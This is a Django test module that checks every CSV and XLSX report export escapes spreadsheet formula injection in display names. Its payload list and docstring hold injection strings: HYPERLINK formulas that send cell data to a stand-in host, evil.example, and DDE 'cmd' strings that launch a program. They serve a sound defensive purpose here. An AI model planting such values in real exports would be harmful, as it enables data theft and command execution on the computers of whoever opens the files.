"""Issue 23, item 2: formula injection in exports. A display name such as
`=HYPERLINK("http://evil.example/?x="&B3,"Click")` (a department head may create such a
user) must reach every download as text: in CSV with a leading `'`, in XLSX as a string
cell with a leading `'`, never a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from servicedesk.exports import safe_cell
from tests.reports.test_reports import audit  # noqa: F401  fixtures

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&B3,"Click")',
    '+HYPERLINK("http://evil.example/","Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=HYPERLINK(1)",
    "\r=HYPERLINK(1)",
]

#: Every download: (API or web, path, query).
DOWNLOADS = [
    ("api", "/api/v1/reports/officers/", {"period": "month", "at": "2026-10-15"}),
    ("web", "/reports/ranking/", {"month": "2026-10", "level": "officers"}),
    ("web", "/reports/dispatch/", {"week": "2026-W40"}),
    ("web", "/reports/bulletin/", {"quarter": "2026-Q4"}),
]


@pytest.fixture(autouse=True)
def _rank_small_worlds(settings):  # type: ignore[no-untyped-def]
    settings.REPORT_MIN_TICKETS = 1


@pytest.mark.parametrize("value", PAYLOADS)
def test_safe_cell_table(value) -> None:
    assert safe_cell(value) == "'" + value
    assert safe_cell("王首席") == "王首席" and safe_cell(-3) == -3 and safe_cell(0.5) == 0.5


def _client(kind, user):  # type: ignore[no-untyped-def]
    if kind == "api":
        from rest_framework.test import APIClient

        api = APIClient()
        api.force_authenticate(user)
        return api
    client = Client()
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    return client


@pytest.mark.parametrize(("kind", "path", "query"), DOWNLOADS)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_every_export_writes_formulas_as_text(audit, kind, path, query, fmt) -> None:  # noqa: F811
    client = _client(kind, audit.admin)
    for payload in PAYLOADS:
        audit.chief.display_name = payload
        audit.chief.save(update_fields=["display_name"])
        response = client.get(path, {**query, "format": fmt})
        assert response.status_code == 200, (path, fmt)
        content = response.getvalue()
        if fmt == "csv":
            cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
            hits = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
            assert hits, (path, payload)
            assert all(c == "'" + payload for c in hits), (path, hits)
        else:
            workbook = load_workbook(io.BytesIO(content))
            cells = [c for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]
            assert not [c.coordinate for c in cells if c.data_type == "f"], (path, payload)
            hits = [c for c in cells if isinstance(c.value, str) and ("HYPERLINK" in c.value or "cmd|" in c.value)]
            assert hits, (path, payload)
            for c in hits:
                assert c.data_type == "s" and c.value.startswith("'"), (path, c.value)
